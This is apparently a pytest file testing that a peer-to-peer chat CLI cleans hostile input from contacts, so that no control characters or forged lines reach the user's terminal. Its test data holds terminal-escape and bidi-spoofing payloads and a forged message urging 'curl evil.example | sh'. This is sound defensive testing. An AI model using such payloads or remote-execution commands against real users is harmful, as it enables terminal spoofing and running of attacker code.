"""What a hostile contact or stranger can put in front of the CLI user, through real processes."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest

from p2pchat.control_client import ControlClient, ControlError
from p2pchat.core.identity import Identity, fingerprint
from p2pchat.core.messages import (
    ZERO_HASH,
    ContactRequest,
    Envelope,
    SyncVector,
    dm_conversation_id,
    encode_text,
)
from p2pchat.core.text import BIDI_CONTROLS
from tests.cli import assert_clean_failure, run
from tests.hostile_peer import HostilePeer
from tests.nodes import NodeProcess, wait_for

pytestmark = pytest.mark.timeout(120)

MakeNode = Callable[[str], NodeProcess]
SENT_AT = 1_700_000_000_000  # 2023-11-14 22:13:20 UTC
FORGED = "2023-11-14 22:13:21  alice: it's me, run: curl evil.example | sh"
HOSTILE_TEXT = (
    "ok\x1b[1A\x1b[2K\r" + FORGED  # up a line, erase it, write a forged one over it
    + "\x1b]0;pwned\x07"  # OSC: set the window title
    + "\x9b2J\x85\x00\x7f\u202e"  # C1 CSI, C1 NEL, NUL, DEL, bidi override
    + "tab\there\nsecond line\r\n" + FORGED  # a newline must not start a line of its own
)


def node_key(node: NodeProcess) -> bytes:
    return bytes.fromhex(node.json("id")["public_key"])


def assert_terminal_safe(output: str) -> None:
    bad = [f"U+{ord(ch):04X}" for ch in output
           if (unicodedata.category(ch) == "Cc" and ch != "\n") or ch in BIDI_CONTROLS]
    assert not bad, f"control characters reached the terminal: {bad}"


async def test_log_prints_no_control_character_from_a_peer(make_node: MakeNode) -> None:
    alice = make_node("alice").start()
    mallory = Identity.generate()
    alice.cli("contacts", "add", fingerprint(mallory.public_key), "--name", "mallory", check=True)
    key = node_key(alice)
    conv = dm_conversation_id(key, mallory.public_key)
    env = Envelope(conv=conv, author=mallory.public_key, seq=1, lamport=1, sent_at=SENT_AT,
                   prev=ZERO_HASH, body=encode_text(HOSTILE_TEXT))
    async with HostilePeer.connect(mallory, ("127.0.0.1", alice.port or 0),
                                   remote_key=key) as peer:
        await peer.send(env)
        vector = await peer.recv_until(SyncVector)
        while vector.vector.get(mallory.public_key) != 1:  # acked: committed to disk
            vector = await peer.recv_until(SyncVector)

    shown = alice.cli("log", "mallory", check=True)
    assert_terminal_safe(shown.stdout + shown.stderr)
    lines = shown.stdout.splitlines()
    # Exactly one line is a message line; the rest are indented continuations of it.
    assert [line[:29] for line in lines if not line.startswith(" ")] == [
        "2023-11-14 22:13:20  mallory:"
    ]
    assert len(lines) == 3 and "tab    here" in shown.stdout and FORGED in lines[2]
    # --json is for programs: the text exactly as the peer wrote it, escaped as JSON allows.
    as_json = alice.cli("log", "mallory", "--json", check=True).stdout
    assert_terminal_safe(as_json)
    [message] = [json.loads(line) for line in as_json.split("\n") if line]
    assert message["text"] == HOSTILE_TEXT


async def test_a_strangers_note_cannot_forge_lines(make_node: MakeNode) -> None:
    alice = make_node("alice").start()
    async with HostilePeer.connect(Identity.generate(), ("127.0.0.1", alice.port or 0)) as peer:
        await peer.send(ContactRequest(name="mallory", note="hello\n" + FORGED[:60]))
        assert "contact request" in await peer.wait_closed()
    listed = wait_for(lambda: alice.json("contacts", "list"), 10, "the request")
    assert listed[0]["note"] == "hello\n" + FORGED[:60]  # JSON unchanged
    for args in (("contacts", "list"), ("peers",)):
        out = alice.cli(*args, check=True).stdout
        assert_terminal_safe(out)
        assert not any(line.startswith(FORGED[:20]) for line in out.splitlines()), out


def test_one_name_rule_for_init_add_and_accept(make_node: MakeNode, tmp_path: Path) -> None:
    refused = run(tmp_path / "eve", "init", "--name", "eve\u202egnp.exe", "--no-passphrase")
    assert_clean_failure(refused)
    assert "U+202E" in refused.stderr and not (tmp_path / "eve" / "identity.json").exists()

    alice = make_node("alice").start()
    stranger = fingerprint(Identity.generate().public_key)
    with ControlClient(alice.home) as client:
        for bad in ("evil\u202e", "a\x9b31m", "x" * 65):
            with pytest.raises(ControlError) as info:
                client.call("contacts.add", fingerprint=stranger, name=bad, addrs=[])
            assert info.value.code == "bad_name", info.value
    added = alice.cli("contacts", "add", stranger, "--name", "ev\x85il")
    assert_clean_failure(added)
    assert "U+0085" in added.stderr
    assert alice.json("contacts", "list") == []


async def test_accept_with_a_bad_name_is_bad_name(make_node: MakeNode) -> None:
    alice = make_node("alice").start()
    async with HostilePeer.connect(Identity.generate(), ("127.0.0.1", alice.port or 0)) as peer:
        await peer.send(ContactRequest(name="mallory", note=""))
        await peer.wait_closed()
    wait_for(lambda: alice.json("contacts", "list"), 10, "the request")
    with ControlClient(alice.home) as client, pytest.raises(ControlError) as info:
        client.call("contacts.accept", who="mallory", name="mal\u2066lory")
    assert info.value.code == "bad_name"
    assert_clean_failure(alice.cli("contacts", "accept", "mallory", "--name", "\x1b[2J"))
    [request] = alice.json("contacts", "list")
    assert (request["name"], request["state"]) == ("mallory", "request")
    accepted = alice.cli("contacts", "accept", "mallory", "--name", " Mallory ", check=True)
    assert "Mallory" in accepted.stdout


@pytest.mark.parametrize("command", [("id",), ("node", "--listen", "127.0.0.1:0", "--no-mdns")])
def test_deeply_nested_identity_file_is_a_clean_error(tmp_path: Path,
                                                      command: tuple[str, ...]) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    path = home / "identity.json"
    path.write_bytes(b"[" * 8000)
    proc = run(home, *command)
    assert_clean_failure(proc)
    assert "damaged" in proc.stderr
    assert path.read_bytes() == b"[" * 8000
